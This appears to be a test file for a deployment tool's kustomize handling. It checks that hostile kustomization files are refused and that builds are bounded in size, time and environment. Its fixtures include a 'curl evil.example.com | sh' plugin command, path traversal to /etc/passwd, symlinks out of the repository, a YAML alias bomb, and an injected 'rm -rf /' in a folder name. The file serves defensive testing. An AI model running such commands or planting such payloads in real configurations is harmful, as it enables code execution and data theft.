/**
 * Kustomize folders: the refusals made before kustomize runs (a hostile table), the bounds
 * on running it (output size, time, environment), and how its output takes the folder's place
 * in a wave. No kustomize binary is needed here: refusals must happen before it would run (the
 * binary given does not exist, so running it would say so), and the process bounds are
 * exercised with stand-in executables. Builds with the real kustomize are in
 * test/e2e/kustomize_test.ts.
 */
import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { RenderError } from '../../../src/render/errors.js';
import { type KustomizeOptions, type KustomizePolicy, checkKustomization, runKustomize } from '../../../src/render/kustomize.js';
import { inspectRepo, renderRepo } from '../../../src/render/layout.js';
import type { Problem } from '../../../src/render/types.js';
import { validateFolder } from '../../../src/render/validate.js';

const temps: string[] = [];
after(async () => {
  await Promise.all(temps.map((dir) => rm(dir, { recursive: true, force: true })));
});

const missingBinary = '/nonexistent/doris-test/kustomize';
const strict: KustomizePolicy = { allowRemote: false, allowPlugins: false };

/** A repository with `.git` and the files given (paths relative to the root). */
async function repo(files: Record<string, string>, symlinks: Record<string, string> = {}): Promise<string> {
  const root = await realpath(await mkdtemp(join(tmpdir(), 'doris-kustomize-')));
  temps.push(root);
  await mkdir(join(root, '.git'));
  for (const [path, content] of Object.entries(files)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await writeFile(join(root, path), content);
  }
  for (const [path, target] of Object.entries(symlinks)) {
    await mkdir(dirname(join(root, path)), { recursive: true });
    await symlink(target, join(root, path));
  }
  return root;
}

/** An executable that stands in for kustomize: node running `body`. */
async function standIn(body: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'doris-standin-'));
  temps.push(dir);
  const path = join(dir, 'kustomize');
  await writeFile(path, `#!${process.execPath}\n${body}\n`);
  await chmod(path, 0o755);
  return path;
}

async function renderProblems(root: string, options: Parameters<typeof renderRepo>[2]): Promise<Problem[]> {
  try {
    return (await renderRepo(root, 'deploy', options)).problems;
  } catch (error) {
    assert.ok(error instanceof RenderError, String(error));
    return error.problems;
  }
}

interface Row {
  name: string;
  files: Record<string, string>;
  symlinks?: Record<string, string>;
  policy?: Partial<KustomizePolicy>;
  /** Parts of the one error reported against `deploy/1-app`; [] when the check lets it through. */
  refused: string[];
}

const cm = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: c\n';
const execFunction =
  'apiVersion: example.com/v1\nkind: Sh\nmetadata:\n  name: g\n  annotations:\n    config.kubernetes.io/function: |\n      exec:\n        path: /bin/sh\n';
const containerFunction =
  'apiVersion: example.com/v1\nkind: Gen\nmetadata:\n  name: g\n  annotations:\n    config.kubernetes.io/function: |\n      container:\n        image: evil/gen\n';

const rows: Row[] = [
  {
    name: 'a remote base URL',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - https://github.com/acme/fleet//base?ref=v1\n' },
    refused: ['resources: remote reference "https://github.com/acme/fleet//base?ref=v1" refused (spec.kustomize.allowRemote is false)'],
  },
  {
    name: 'a remote base in kustomize’s short form',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - github.com/acme/fleet/base?ref=v1\n' },
    refused: ['remote reference "github.com/acme/fleet/base?ref=v1" refused'],
  },
  {
    name: 'an ssh remote base',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - git@github.com:acme/fleet.git\n' },
    refused: ['remote reference "git@github.com:acme/fleet.git" refused'],
  },
  {
    name: 'a path that does not exist (kustomize would try it as a remote)',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - github.com/acme/fleet\n' },
    refused: ['"github.com/acme/fleet" does not exist in the repository (remote references are refused)'],
  },
  {
    name: 'a remote base reached through a local base',
    files: {
      'deploy/1-app/kustomization.yaml': 'resources:\n  - ../../base\n',
      'base/kustomization.yaml': 'resources:\n  - https://example.com/evil.yaml\n',
    },
    refused: ['base/kustomization.yaml: resources: remote reference "https://example.com/evil.yaml" refused'],
  },
  {
    name: '../../etc outside the repository',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - ../../../../../../etc\n' },
    refused: ['resources: "../../../../../../etc" leaves the repository; refused'],
  },
  {
    name: 'a generator reading /etc/passwd by ../',
    files: { 'deploy/1-app/kustomization.yaml': 'secretGenerator:\n  - name: s\n    files:\n      - passwd=../../../../../../etc/passwd\n' },
    refused: ['secretGenerator.files: "../../../../../../etc/passwd" leaves the repository; refused'],
  },
  {
    name: 'an absolute path',
    files: { 'deploy/1-app/kustomization.yaml': 'patches:\n  - path: /etc/hosts\n' },
    refused: ['patches: "/etc/hosts" leaves the repository; refused'],
  },
  {
    name: 'a resource symlinked out of the repository',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - hosts.yaml\n' },
    symlinks: { 'deploy/1-app/hosts.yaml': '/etc/hosts' },
    refused: ['resources: "hosts.yaml" leads outside the repository through a symlink; refused'],
  },
  {
    name: 'a base folder symlinked out of the repository',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - base\n' },
    symlinks: { 'deploy/1-app/base': '/etc' },
    refused: ['resources: "base" leads outside the repository through a symlink; refused'],
  },
  {
    name: 'an exec function as a generator',
    files: { 'deploy/1-app/kustomization.yaml': 'generators:\n  - gen.yaml\n', 'deploy/1-app/gen.yaml': execFunction },
    refused: ['generators gen.yaml: Sh is an exec function (runs a program); refused (spec.kustomize.allowPlugins is false)'],
  },
  {
    name: 'a container function as a transformer',
    files: { 'deploy/1-app/kustomization.yaml': 'transformers:\n  - gen.yaml\n', 'deploy/1-app/gen.yaml': containerFunction },
    refused: ['transformers gen.yaml: Gen is a KRM function; refused'],
  },
  {
    name: 'a legacy plugin with a command, inline',
    files: {
      'deploy/1-app/kustomization.yaml':
        'generators:\n  - |-\n    apiVersion: someteam.example.com/v1\n    kind: ChartInflator\n    metadata:\n      name: x\n    command: curl evil.example.com | sh\n',
    },
    refused: ['generators (inline): ChartInflator (someteam.example.com/v1) is not a kustomize built-in but a plugin; refused'],
  },
  {
    name: 'Helm charts',
    files: { 'deploy/1-app/kustomization.yaml': 'helmCharts:\n  - name: x\n    repo: https://charts.example.com\n' },
    refused: ['helmCharts: Helm charts are not supported'],
  },
  {
    name: 'a kustomization that is not YAML',
    files: { 'deploy/1-app/kustomization.yaml': 'resources: [a\n' },
    refused: ['deploy/1-app/kustomization.yaml: not valid YAML'],
  },
  // The kustomization file itself is found by name: it may be a symlink or not a file at all.
  {
    name: 'a kustomization.yaml symlinked to /dev/zero (endless) is refused unread',
    files: {},
    symlinks: { 'deploy/1-app/kustomization.yaml': '/dev/zero' },
    refused: ['deploy/1-app/kustomization.yaml: leads outside the repository through a symlink; refused'],
  },
  {
    name: 'a kustomization.yaml symlinked to a file outside the repository (a mounted token) is refused unread',
    files: {},
    symlinks: { 'deploy/1-app/kustomization.yaml': '/etc/hostname' },
    refused: ['deploy/1-app/kustomization.yaml: leads outside the repository through a symlink; refused'],
  },
  {
    name: 'a kustomization.yaml symlink with no target',
    files: {},
    symlinks: { 'deploy/1-app/kustomization.yaml': 'missing.yaml' },
    refused: ['deploy/1-app/kustomization.yaml: symlink with no target; refused'],
  },
  {
    name: 'a folder named kustomization.yaml',
    files: { 'deploy/1-app/kustomization.yaml/x.yaml': cm },
    refused: ['deploy/1-app/kustomization.yaml: not a regular file; refused'],
  },
  {
    name: 'a kustomization over 1 MiB',
    files: { 'deploy/1-app/kustomization.yaml': `# ${'x'.repeat(1024 * 1024)}\n` },
    refused: ['deploy/1-app/kustomization.yaml: 1048579 bytes, over the limit of 1048576; refused'],
  },
  {
    name: 'a kustomization nested 200,000 levels deep is refused at its line, not a stack overflow',
    files: { 'deploy/1-app/kustomization.yaml': `resources: ${'['.repeat(200_000)}\n` },
    refused: ['deploy/1-app/kustomization.yaml:1:111: nesting deeper than 100 levels; refused'],
  },
  {
    name: 'a generator config nested too deep is refused too',
    files: { 'deploy/1-app/kustomization.yaml': 'generators:\n  - gen.yaml\n', 'deploy/1-app/gen.yaml': `a: ${'{'.repeat(200_000)}\n` },
    refused: ['deploy/1-app/kustomization.yaml: generators gen.yaml:1:103: nesting deeper than 100 levels; refused'],
  },
  {
    name: 'a kustomization that is an alias bomb is refused, not read as empty',
    files: {
      'deploy/1-app/kustomization.yaml': `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${'*a, '.repeat(9)}*a]\nc: &c [${'*b, '.repeat(9)}*b]\nresources: [https://example.com/x.yaml]\n`,
    },
    refused: ['deploy/1-app/kustomization.yaml: Excessive alias count'],
  },
  {
    name: 'a kustomization.yaml symlinked to a file inside the repository is read',
    files: { 'base/kustomization.yaml': 'resources:\n  - https://example.com/evil.yaml\n' },
    symlinks: { 'deploy/1-app/kustomization.yaml': '../../base/kustomization.yaml' },
    refused: ['deploy/1-app/kustomization.yaml: resources: remote reference "https://example.com/evil.yaml" refused'],
  },
  // What the check lets through goes on to kustomize (here: a binary that does not exist).
  {
    name: 'a built-in generator, inline, passes the check',
    files: {
      'deploy/1-app/kustomization.yaml': 'generators:\n  - |-\n    apiVersion: builtin\n    kind: ConfigMapGenerator\n    metadata:\n      name: ok\n',
    },
    refused: [],
  },
  {
    name: 'local bases, patches and generator files inside the repository pass the check',
    files: {
      'deploy/1-app/kustomization.yaml':
        'resources:\n  - ../../base\n  - cm.yaml\npatches:\n  - path: p.yaml\nconfigMapGenerator:\n  - name: g\n    files: [k=cm.yaml]\n    envs: [e.env]\n',
      'deploy/1-app/cm.yaml': cm,
      'deploy/1-app/p.yaml': cm,
      'deploy/1-app/e.env': 'A=1\n',
      'base/kustomization.yaml': 'resources: [x.yaml]\n',
      'base/x.yaml': cm,
    },
    refused: [],
  },
  {
    name: 'a remote base, allowed by spec.kustomize.allowRemote',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - https://github.com/acme/fleet//base?ref=v1\n' },
    policy: { allowRemote: true },
    refused: [],
  },
  {
    name: 'an exec function, allowed by spec.kustomize.allowPlugins',
    files: { 'deploy/1-app/kustomization.yaml': 'generators:\n  - gen.yaml\n', 'deploy/1-app/gen.yaml': execFunction },
    policy: { allowPlugins: true },
    refused: [],
  },
  {
    name: '../ outside the repository stays refused when remote bases are allowed',
    files: { 'deploy/1-app/kustomization.yaml': 'resources:\n  - ../../../../../../etc\n' },
    policy: { allowRemote: true, allowPlugins: true },
    refused: ['leaves the repository; refused'],
  },
];

describe('kustomize folders: hostile kustomizations are refused before kustomize runs', () => {
  for (const row of rows) {
    it(row.name, async () => {
      const root = await repo(row.files, row.symlinks);
      const kustomize = { binary: missingBinary, policy: { ...strict, ...row.policy } };
      const problems = await renderProblems(root, { kustomize });
      const errors = problems.filter((p) => p.severity === 'error');
      assert.equal(errors.length, 1, JSON.stringify(problems));
      assert.equal(errors[0]!.file, 'deploy/1-app', 'the error names the folder');
      if (row.refused.length === 0) {
        assert.match(errors[0]!.message, /^kustomize is not installed: "\/nonexistent\/doris-test\/kustomize" was not found/);
      } else {
        assert.match(errors[0]!.message, /^kustomization refused: /);
        for (const part of row.refused) assert.ok(errors[0]!.message.includes(part), `${JSON.stringify(part)} in ${errors[0]!.message}`);
      }
      // doris validate reports the same (one rule set).
      const validate = await validateFolder(join(root, 'deploy'), { kustomize });
      assert.deepEqual(validate.problems, problems);
    });
  }

  it('checks a kustomization reached twice (a diamond of bases) once, and a cycle ends', async () => {
    const root = await repo({
      'deploy/1-app/kustomization.yaml': 'resources: [../../a, ../../b]\n',
      'a/kustomization.yaml': 'resources: [../c]\n',
      'b/kustomization.yaml': 'resources: [../c]\n',
      'c/kustomization.yaml': 'resources: [../a, https://example.com/x.yaml]\n',
    });
    const refusals = await checkKustomization(root, join(root, 'deploy/1-app'), strict);
    assert.deepEqual(refusals, [
      'c/kustomization.yaml: resources: remote reference "https://example.com/x.yaml" refused (spec.kustomize.allowRemote is false)',
    ]);
  });
});

describe('kustomize folders in the layout', () => {
  const output = (objects: string[]): string => `process.stdout.write(${JSON.stringify(objects.join('---\n'))});`;

  it('a wave folder holding a kustomization.yaml is one step built by kustomize, located at the folder', async () => {
    const binary = await standIn(output([cm, 'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ns1\n']));
    const root = await repo({
      'deploy/1-app/kustomization.yaml': 'resources: [10-cm.yaml]\n',
      // A numbered file in a kustomize wave is kustomize's input, not a step of its own.
      'deploy/1-app/10-cm.yaml': cm,
      'deploy/2-plain/10-cm.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: plain\n',
    });
    const rendered = await renderRepo(root, 'deploy', { kustomize: { binary } });
    const [wave1, wave2] = rendered.waves;
    assert.deepEqual(
      wave1!.steps.map((s) => ({ number: s.number, files: s.files })),
      [{ number: 0, files: ['deploy/1-app'] }],
    );
    assert.deepEqual(
      wave1!.steps[0]!.objects.map((o) => [o.object.kind, o.object.metadata.name, `${o.source.file}:${o.source.line}:${o.source.col}`]),
      [
        ['ConfigMap', 'c', 'deploy/1-app:1:1'],
        ['Namespace', 'ns1', 'deploy/1-app:6:1'],
      ],
    );
    assert.equal(wave2!.steps[0]!.objects[0]!.object.metadata.name, 'plain');
  });

  it('a step folder <number>-<name>/ with a kustomization.yaml is that step; one without is skipped with a warning', async () => {
    const binary = await standIn(output([cm]));
    const root = await repo({
      'deploy/1-app/10-first.yaml': 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: first\n',
      'deploy/1-app/20-kust/kustomization.yaml': 'resources: [cm.yaml]\n',
      'deploy/1-app/20-kust/cm.yaml': cm,
      'deploy/1-app/30-plain/x.yaml': cm,
    });
    const { waves, problems } = await inspectRepo(root, 'deploy', { kustomize: { binary } });
    assert.deepEqual(
      waves[0]!.steps.map((s) => [s.number, s.files, s.objects.map((o) => o.object.metadata.name)]),
      [
        [10, ['deploy/1-app/10-first.yaml'], ['first']],
        [20, ['deploy/1-app/20-kust'], ['c']],
      ],
    );
    assert.deepEqual(
      problems.map((p) => `${p.file}: ${p.severity}: ${p.message}`),
      ['deploy/1-app/30-plain: warning: folder inside a wave is not read; skipped (waves do not nest)'],
    );
  });

  it('kustomize output that is not a valid manifest is reported at the folder, line and column of the output', async () => {
    const binary = await standIn(output([cm, 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: Bad_Name\n']));
    const root = await repo({ 'deploy/1-app/kustomization.yaml': 'resources: []\n' });
    const problems = await renderProblems(root, { kustomize: { binary } });
    assert.equal(problems.length, 1);
    assert.equal(`${problems[0]!.file}:${problems[0]!.line}`, 'deploy/1-app:9');
    assert.match(problems[0]!.message, /metadata\.name "Bad_Name" is not valid/);
  });

  it('an object that kustomize builds and a plain file also declares is a duplicate', async () => {
    const binary = await standIn(output([cm]));
    const root = await repo({ 'deploy/1-app/kustomization.yaml': 'resources: []\n', 'deploy/2-b/10-cm.yaml': cm });
    const problems = await renderProblems(root, { kustomize: { binary } });
    assert.deepEqual(
      problems.map((p) => `${p.file}:${p.line}:${p.col}: ${p.message}`),
      ['deploy/2-b/10-cm.yaml:1:1: duplicate object: ConfigMap c is also defined at deploy/1-app:1:1'],
    );
  });

  it('kustomize output carrying SOPS metadata is refused (decrypting inside kustomize folders is not supported)', async () => {
    const binary = await standIn(output([`${cm}sops:\n  mac: ENC[x]\n`]));
    const root = await repo({ 'deploy/1-app/kustomization.yaml': 'resources: []\n' });
    const problems = await renderProblems(root, { kustomize: { binary } });
    assert.match(problems[0]!.message, /kustomize output holds SOPS-encrypted objects/);
  });
});

describe('running kustomize', () => {
  const options = (binary: string, extra: Partial<KustomizeOptions> = {}): KustomizeOptions => ({
    binary,
    policy: strict,
    timeoutMs: 10_000,
    maxOutputBytes: 1024 * 1024,
    ...extra,
  });

  it('huge output is refused, not buffered', async () => {
    const binary = await standIn(
      "const chunk = 'x'.repeat(65536); let n = 0; const go = () => { while (n++ < 64) if (!process.stdout.write(chunk)) return process.stdout.once('drain', go); }; go();",
    );
    const root = await repo({});
    const result = await runKustomize(root, root, options(binary));
    assert.deepEqual(result, { ok: false, message: 'kustomize build output is over the limit of 1048576 bytes; refused' });
  });

  it('a build that does not finish is stopped at the timeout', async () => {
    const binary = await standIn('setInterval(() => {}, 1000);');
    const root = await repo({});
    const started = Date.now();
    const result = await runKustomize(root, root, options(binary, { timeoutMs: 300 }));
    assert.deepEqual(result, { ok: false, message: 'kustomize build did not finish within 0.3 s; stopped' });
    assert.ok(Date.now() - started < 5_000);
  });

  it('a failed build reports kustomize’s message with paths relative to the repository', async () => {
    const binary = await standIn(
      // process.argv: node, the script, "build", then the folder kustomize was given.
      'process.stderr.write("Error: accumulating resources: accumulation err=\'accumulating resources from \'x.yaml\': " + process.argv[3] + "/x.yaml: no such file or directory\'\\n"); process.exit(1);',
    );
    const root = await repo({ 'deploy/1-app/kustomization.yaml': '' });
    const result = await runKustomize(root, join(root, 'deploy/1-app'), options(binary));
    assert.deepEqual(result, {
      ok: false,
      message:
        "kustomize build failed: Error: accumulating resources: accumulation err='accumulating resources from 'x.yaml': deploy/1-app/x.yaml: no such file or directory'",
    });
  });

  it('runs with an argument array, the load restrictor, and an environment without DORIS’s credentials', async () => {
    const binary = await standIn(
      "process.stdout.write(JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'env' }, data: { argv: JSON.stringify(process.argv.slice(2)), env: JSON.stringify(process.env) } }));",
    );
    const root = await repo({});
    const saved = process.env.DORIS_GIT_TOKEN;
    process.env.DORIS_GIT_TOKEN = 'token-that-must-not-leak';
    try {
      const strictRun = await runKustomize(root, join(root, 'a b; rm -rf /'), options(binary));
      assert.ok(strictRun.ok);
      const data = JSON.parse(strictRun.output.toString('utf8')).data;
      assert.deepEqual(JSON.parse(data.argv), ['build', join(root, 'a b; rm -rf /'), '--load-restrictor', 'LoadRestrictionsRootOnly']);
      const env = JSON.parse(data.env) as Record<string, string>;
      assert.equal(env.DORIS_GIT_TOKEN, undefined);
      assert.equal(env.KUBECONFIG, undefined);
      assert.equal(env.PATH, '', 'no git for remote bases');
      assert.equal(env.HTTPS_PROXY, 'http://127.0.0.1:9', 'HTTP fetches go nowhere');

      const open = await runKustomize(root, root, options(binary, { policy: { allowRemote: true, allowPlugins: true } }));
      assert.ok(open.ok);
      const openData = JSON.parse(open.output.toString('utf8')).data;
      assert.deepEqual(JSON.parse(openData.argv).slice(-2), ['--enable-alpha-plugins', '--enable-exec']);
      assert.notEqual(JSON.parse(openData.env).PATH, '');
      assert.equal(JSON.parse(openData.env).DORIS_GIT_TOKEN, undefined);
    } finally {
      if (saved === undefined) delete process.env.DORIS_GIT_TOKEN;
      else process.env.DORIS_GIT_TOKEN = saved;
    }
  });
});
